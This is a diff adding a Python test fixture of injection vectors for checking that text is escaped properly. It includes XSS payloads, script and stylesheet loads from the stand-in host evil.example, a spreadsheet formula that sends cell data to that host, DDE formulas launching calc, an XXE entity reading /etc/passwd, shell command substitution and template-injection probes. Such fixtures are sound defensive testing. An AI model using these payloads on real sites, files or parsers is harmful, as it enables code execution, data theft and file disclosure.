@@ -1,0 +1,106 @@
+"""Texts that would become something else if one place forgot to take them as text.
+
+Every vector that could run calls ``alert`` or asks ``evil.example`` for something, so that a browser can tell.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+
+VECTORS: Mapping[str, str] = {
+    # Elements that run, load or frame something.
+    "script": "<script>alert(1)</script>",
+    "script upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "script broken over lines": "<script\n>alert(1)</script\n>",
+    "image": "<img src=x onerror=alert(1)>",
+    "image with slashes": "<img/src=x/onerror=alert(1)>",
+    "image from elsewhere": '<img src="//evil.example/x.png">',
+    "svg": "<svg onload=alert(1)>",
+    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "svg link": "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "mathml": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    "foreign object": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
+    "iframe": "<iframe src=javascript:alert(1)></iframe>",
+    "iframe of a document": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "style": "<style>@import '//evil.example/x.css';</style>",
+    "base": "<base href=//evil.example/>",
+    "refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+    "style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
+    "form": "<form action=//evil.example/><button autofocus onfocus=alert(1)>x</button></form>",
+    "object": "<object data=//evil.example/x></object><embed src=//evil.example/x>",
+    "details": "<details open ontoggle=alert(1)>x</details>",
+    "video": "<video><source onerror=alert(1)></video>",
+    "custom element": "<x-x tabindex=1 autofocus onfocus=alert(1)>x</x-x>",
+    # What ends something, or never ends.
+    "unclosed tag": "<img src=x onerror=alert(1) ",
+    "unclosed comment": "<!-- <script>alert(1)</script>",
+    "comment ended twice": "--><script>alert(1)</script><!--",
+    "end of a title": "</title><script>alert(1)</script>",
+    "end of a textarea": "</textarea><script>alert(1)</script>",
+    "end of a script": "</script><script>alert(1)</script>",
+    "end of a table": "</td></tr></table><script>alert(1)</script>",
+    "end of a data section": "]]><script>alert(1)</script>",
+    "unquoted": " onmouseover=alert(1) x=",
+    "double quotes": '" autofocus onfocus="alert(1)',
+    "double quotes and a tag": '"><script>alert(1)</script>',
+    "single quotes": "' autofocus onfocus='alert(1)",
+    "single quotes and a tag": "'><img src=x onerror=alert(1)>",
+    "grave accents": "`` onerror=alert(1) `",
+    # Markup that becomes another when it is parsed twice.
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "template": "<template><script>alert(1)</script></template>",
+    "select": "<select><template><img src=x onerror=alert(1)></template></select>",
+    "table": "<table><td><svg><style><img title='</style><img src=x onerror=alert(1)>'>",
+    "namespaces": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
+    # Names that would shadow others.
+    "clobbering": "<a id=document></a><form id=config name=location><input name=attributes></form>",
+    "prototype": "__proto__",
+    "constructor": "constructor",
+    # Links.
+    "javascript": "javascript:alert(1)",
+    "javascript with a tab": "java\tscript:alert(1)",
+    "javascript in an entity": "&#106;avascript&colon;alert(1)",
+    "data": "data:text/html,<script>alert(1)</script>",
+    "vbscript": "vbscript:msgbox(1)",
+    "protocol of the page": "//evil.example/",
+    "Markdown link": "[x](javascript:alert(1))",
+    "Markdown image": "![x](https://evil.example/x.png)",
+    "Markdown autolink": "<javascript:alert(1)>",
+    "Markdown definition": "[x]: javascript:alert(1) (x)",
+    "Markdown link with a title": '[x](https://evil.example/ "onclick=alert(1)")',
+    "attribute list": "{: onclick=alert(1) style=background:url(//evil.example/) }",
+    "heading": "# x {#top onclick=alert(1)}",
+    "fence": "```\n</code></pre><script>alert(1)</script>\n```",
+    "front matter": "---\ntitle: <script>alert(1)</script>\n---",
+    # Templates, entities, styles.
+    "template expression": "{{ config.__class__.__mro__ }}",
+    "template arithmetic": "{{ 7 * 191 }}",
+    "template statement": "{% for x in ().__class__.__bases__ %}{% endfor %}",
+    "template comment": "{# x #}",
+    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "entities twice": "&amp;lt;script&amp;gt;alert(1)",
+    "style expression": "x{width:expression(alert(1));background:url(//evil.example/)}",
+    # Characters.
+    "null byte": "<scr\0ipt>alert(1)</scr\0ipt>",
+    "line separator": "\u2028</script><script>alert(1)</script>\u2029",
+    "bidi override": "\u202e<script>alert(1)</script>\u202c",
+    "zero width": "<scr\u200bipt>alert(1)</scr\u200bipt>",
+    "tag characters": "甲\U000e0041\U000e007f乙",
+    "full width": "＜script＞alert(1)＜/script＞",
+    "escape sequence": "\x1b]8;;https://evil.example/\x07x\x1b[2J",
+    "very long": "<b>" * 2000,
+    # Spreadsheets.
+    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "formula with a plus": "+cmd|' /C calc'!A0",
+    "formula with a minus": "-2+3+cmd|' /C calc'!A0",
+    "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula behind a tab": "\t=1+1",
+    # XML, JSON, addresses.
+    "XML entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+    "JSON breakout": '","x":"</script><script>alert(1)</script>',
+    "backslashes": "\\u003cscript\\u003ealert(1)\\",
+    "address": "?x=1&y=2#z%00%2e%2e%2f../../",
+    "command": "$(touch evil);`touch evil`|touch evil",
+    "workflow command": "x\n::error file=x::y\n::stop-commands::z",
+}  # fmt: skip
